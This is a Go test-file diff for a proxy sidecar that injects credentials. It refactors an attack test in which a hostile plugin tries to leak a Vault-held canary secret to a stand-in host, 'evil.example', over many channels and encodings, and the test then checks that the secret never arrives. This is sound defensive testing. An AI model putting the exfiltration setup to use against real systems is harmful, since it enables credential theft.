@@ -1,4 +1,4 @@
-package main
+package attack
 
 import (
 	"bytes"
@@ -31,6 +31,7 @@ import (
 	"github.com/klauspost/compress/zstd"
 
 	"github.com/chaperone-proxy/chaperone/internal/testenv"
+	"github.com/chaperone-proxy/chaperone/internal/testenv/scenario"
 )
 
 // canary is the credential that nobody but the API is to see.
@@ -89,11 +90,11 @@ type accomplice struct {
 	received []string // requests: line, head and body
 }
 
-func newAccomplice(t *testing.T, w *world, name string, secret func(*http.Request) string) *accomplice {
+func newAccomplice(t *testing.T, w *scenario.Env, name string, secret func(*http.Request) string) *accomplice {
 	t.Helper()
 	a := &accomplice{secret: secret}
 	a.server = httptest.NewUnstartedServer(http.HandlerFunc(a.serve))
-	a.server.TLS = &tls.Config{ClientAuth: tls.RequestClientCert, Certificates: []tls.Certificate{testenv.MustGet(w.api.CA.Issue(name))(t)}}
+	a.server.TLS = &tls.Config{ClientAuth: tls.RequestClientCert, Certificates: []tls.Certificate{testenv.MustGet(w.API.CA.Issue(name))(t)}}
 	a.server.Config.ErrorLog = log.New(io.Discard, "", 0)
 	a.server.StartTLS()
 	t.Cleanup(a.server.Close)
@@ -390,7 +391,7 @@ func TestHostilePlugin(t *testing.T) {
 }
 
 // prepare puts the credential into Vault.
-func (c *theft) prepare(t *testing.T, w *world) {
+func (c *theft) prepare(t *testing.T, w *scenario.Env) {
 	t.Helper()
 	ctx := t.Context()
 	if c.fields == nil {
@@ -398,15 +399,15 @@ func (c *theft) prepare(t *testing.T, w *world) {
 	}
 	if c.path == "" {
 		c.path = "secret/data/weather"
-		testenv.Must(t, w.vault.PutSecret(ctx, "weather", c.fields))
+		testenv.Must(t, w.Vault.PutSecret(ctx, "weather", c.fields))
 		return
 	}
-	testenv.Must(t, w.vault.EnableEngine(ctx, "transit", "transit", nil))
-	testenv.MustGet(w.vault.Write(ctx, "transit/keys/weather", map[string]any{"type": "ecdsa-p256", "exportable": true}))(t)
-	exported := testenv.MustGet(w.vault.Read(ctx, "transit/export/signing-key/weather"))(t)
+	testenv.Must(t, w.Vault.EnableEngine(ctx, "transit", "transit", nil))
+	testenv.MustGet(w.Vault.Write(ctx, "transit/keys/weather", map[string]any{"type": "ecdsa-p256", "exportable": true}))(t)
+	exported := testenv.MustGet(w.Vault.Read(ctx, "transit/export/signing-key/weather"))(t)
 	keys, _ := exported["keys"].(map[string]any)
 	c.secret = fmt.Sprint(keys["1"])
-	testenv.Must(t, w.vault.Policy(ctx, "weather", `path "transit/sign/weather/*" { capabilities = ["update"] }`))
+	testenv.Must(t, w.Vault.Policy(ctx, "weather", `path "transit/sign/weather/*" { capabilities = ["update"] }`))
 }
 
 // isIn returns in which spelling a text holds any of it, "" for none.
@@ -423,8 +424,8 @@ func attack(t *testing.T, c theft) {
 	if c.kernel == "" {
 		c.kernel = "off"
 	}
-	w := newWorld(t, c.kernel, "")
-	good := newAccomplice(t, w, apiHost, c.arrived)
+	w := scenario.New(t, c.kernel, "")
+	good := newAccomplice(t, w, scenario.Host, c.arrived)
 	evil := newAccomplice(t, w, "evil.example", c.arrived)
 	c.prepare(t, w)
 	secret, inject := c.secret, c.inject
@@ -432,16 +433,16 @@ func attack(t *testing.T, c theft) {
 		rw.Header().Set("Content-Type", "application/json")
 		_ = json.NewEncoder(rw).Encode(map[string]any{"access_token": secret, "expires_in": 3600})
 	}))
-	tokens.TLS = &tls.Config{Certificates: []tls.Certificate{testenv.MustGet(w.api.CA.Issue("127.0.0.1"))(t)}}
+	tokens.TLS = &tls.Config{Certificates: []tls.Certificate{testenv.MustGet(w.API.CA.Issue("127.0.0.1"))(t)}}
 	tokens.StartTLS()
 	t.Cleanup(tokens.Close)
 	inject = strings.ReplaceAll(inject, "TOKENS", tokens.URL)
 	free := testenv.MustGet(net.Listen("tcp", "127.0.0.1:0"))(t)
 	metrics := free.Addr().String()
 	testenv.Must(t, free.Close())
-	w.write("sidecar.yaml", strings.NewReplacer(
+	w.Write("sidecar.yaml", strings.NewReplacer(
 		"dns: {hosts: {", "dns: {hosts: {evil.example: [127.0.0.1], ", `metrics: "127.0.0.1:0"`, "metrics: "+strconv.Quote(metrics),
-	).Replace(w.read("sidecar.yaml")))
+	).Replace(w.Read("sidecar.yaml")))
 	to := func(name string, a *accomplice) string {
 		return fmt.Sprintf("to: {hosts: [%s], ports: [%s], addresses: [127.0.0.1/32], tls: {caFile: api-ca.pem}}, methods: [GET, POST], paths: [\"/v1/*\"]", name, a.port())
 	}
@@ -449,7 +450,7 @@ func attack(t *testing.T, c theft) {
 	if strings.Contains(inject, "mtls") {
 		placeholder = "" // it has no place in a request
 	}
-	w.write("grant.yaml", fmt.Sprintf(`apiVersion: chaperone.dev/v1alpha1
+	w.Write("grant.yaml", fmt.Sprintf(`apiVersion: chaperone.dev/v1alpha1
 kind: PluginGrant
 metadata: {name: weather}
 spec:
@@ -462,14 +463,14 @@ spec:
   - name: key
     vault: {path: %s}
     inject: %s
-%s`, time.Now().Add(time.Hour).UTC().Format(time.RFC3339), to(apiHost, good), to("evil.example", evil), c.path, inject, placeholder))
-	args := []string{"python3", "-c", hostile, apiHost + ":" + good.port(), "evil.example:" + evil.port(), fmt.Sprint(min(len(secret), 40))}
+%s`, time.Now().Add(time.Hour).UTC().Format(time.RFC3339), to(scenario.Host, good), to("evil.example", evil), c.path, inject, placeholder))
+	args := []string{"python3", "-c", hostile, scenario.Host + ":" + good.port(), "evil.example:" + evil.port(), fmt.Sprint(min(len(secret), 40))}
 	for way := range spellings(secret) {
 		args = append(args, way)
 	}
 	args = append(args, "headers", "early", "trailer", "error", "pieces", "gzip", "deflate", "br", "zstd", "range", "grpc", "all")
-	b := w.start(args...)
-	eventually(t, "the plugin has tried everything", func() (bool, bool) { return true, strings.Contains(b.output.String(), "\ndone") })
+	b := w.Start(args...)
+	testenv.Eventually(t, "the plugin has tried everything", func() (bool, bool) { return true, strings.Contains(b.Output.String(), "\ndone") })
 	received := good.all()
 	if c.path != "secret/data/weather" { // Vault made it
 		for _, token := range regexp.MustCompile(`Bearer (eyJ[^ \]]+)`).FindAllStringSubmatch(received, -1) {
@@ -477,7 +478,7 @@ spec:
 		}
 	}
 	tried := 0
-	for line := range strings.Lines(b.output.String()) {
+	for line := range strings.Lines(b.Output.String()) {
 		rest, ok := strings.CutPrefix(line, "got ")
 		if !ok {
 			continue
@@ -502,11 +503,11 @@ spec:
 
 // mustNotBe looks for it in everything that the plugin and readers of the sidecar's
 // output can see.
-func (c *theft) mustNotBe(t *testing.T, w *world, b *background, looked map[string]string) {
+func (c *theft) mustNotBe(t *testing.T, w *scenario.Env, b *scenario.Process, looked map[string]string) {
 	t.Helper()
-	looked["the log"], looked["status"] = w.read("state/audit.jsonl"), fmt.Sprint(w.ready())
-	looked["usage"] = w.chaperone("usage", "--config", w.file("sidecar.yaml"), "--output", "json").stdout
-	for line := range strings.Lines(b.output.String()) {
+	looked["the log"], looked["status"] = w.Read("state/audit.jsonl"), fmt.Sprint(w.Ready())
+	looked["usage"] = w.Chaperone("usage", "--config", w.File("sidecar.yaml"), "--output", "json").Stdout
+	for line := range strings.Lines(b.Output.String()) {
 		if !strings.HasPrefix(line, "got ") {
 			looked["stderr"] += line
 		}
